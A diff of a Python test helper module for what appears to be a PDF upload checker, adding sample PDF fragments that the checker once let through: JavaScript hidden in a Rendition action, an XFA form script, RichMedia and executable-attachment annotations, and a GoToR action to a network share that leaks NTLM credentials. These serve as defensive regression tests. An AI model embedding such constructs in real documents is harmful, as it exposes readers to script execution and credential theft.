@@ -309,15 +309,76 @@ def pdf_15(
     return out.getvalue()
 
 
-def compressed_pdf(catalog=b"", *, streams=None, **options):
+def compressed_pdf(catalog=b"", *, annotation=None, streams=None, **options):
     """A one-page PDF whose catalog, pages, page and font are in a Flate object stream;
-    ``catalog`` adds entries to the catalog (an ``/OpenAction``…)."""
+    ``catalog`` adds entries to the catalog (an ``/OpenAction``…), ``annotation`` (a
+    dictionary) is put on the page, packed too."""
     objects = {**PAGE_OBJECTS, 1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog}
+    packed = {1, 2, 3, 5}
+    if annotation:
+        objects[3] = objects[3].replace(b"/Contents", b"/Annots [6 0 R] /Contents")
+        objects[6] = annotation
+        packed.add(6)
     content = {4: (b"/Filter /FlateDecode", zlib.compress(PAGE_CONTENT))}
-    return pdf_15(objects, {**content, **(streams or {})}, packed={1, 2, 3, 5}, **options)
+    return pdf_15(objects, {**content, **(streams or {})}, packed=packed, **options)
 
 
 OPEN_JAVASCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "
+
+
+def incremental_update(pdf_data, objects, *, root=1):
+    """``pdf_data`` (a PDF 1.4 with a classic cross-reference table) followed by an incremental
+    update: ``objects`` ({number: body}) written again or added, as a PDF editor saves."""
+    out = io.BytesIO(pdf_data)
+    out.seek(0, io.SEEK_END)
+    offsets = {}
+    for number, body in objects.items():
+        offsets[number] = out.tell()
+        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
+    xref = out.tell()
+    out.write(b"xref\n")
+    for number, offset in sorted(offsets.items()):
+        out.write(b"%d 1\n%010d 00000 n \n" % (number, offset))
+    previous = int(pdf_data.rsplit(b"startxref", 1)[1].split()[0])
+    size = max(max(offsets) + 1, int(pdf_data.rsplit(b"/Size", 1)[1].split()[0]))
+    out.write(
+        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+        % (size, root, previous, xref)
+    )
+    return out.getvalue()
+
+
+# Active content a PDF reader runs or fetches, that the checker once let through: each is what
+# an attacker writes, in a real PDF.
+
+# JavaScript in a multimedia (« Rendition ») action: ``/JS`` without the word « JavaScript ».
+OPEN_RENDITION_JAVASCRIPT = b"/OpenAction << /S /Rendition /OP 4 /JS (app.alert(1)) >> "
+# An XFA form: XML whose <script> elements Acrobat runs.
+XFA_FORM = (
+    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="f">'
+    b'<event activity="initialize"><script contentType="application/x-javascript">'
+    b"app.alert(1)</script></event></subform></template></xdp:xdp>"
+)
+# Flash, video or 3D played by the reader.
+RICH_MEDIA_ANNOTATION = (
+    b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] "
+    b"/RichMediaContent << /Assets << /Names [(a.swf) << /Type /Filespec /F (a.swf) >>] >> >> >>"
+)
+# A file attached to a page, whose embedded stream omits its optional ``/Type /EmbeddedFile``.
+ATTACHMENT_ANNOTATION = (
+    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /Name /PushPin "
+    b"/FS << /Type /Filespec /F (facture.exe) /EF << /F 9 0 R >> >> >>"
+)
+# Opening a file on a network share when the document opens: Windows sends the user's
+# credentials (NTLM hash) to that server (« BadPDF »).
+OPEN_REMOTE_FILE = (
+    b"/OpenAction << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\x.pdf) /D [0 /Fit] >> "
+)
+# A link to a web page: allowed.
+LINK_ANNOTATION = (
+    b"<< /Type /Annot /Subtype /Link /Rect [56 770 300 790] /Border [0 0 0] "
+    b"/A << /S /URI /URI (https://www.essonne.fr/) >> >>"
+)
 
 
 # Every kind accepted: (upload name, sample, kind code, content type served).
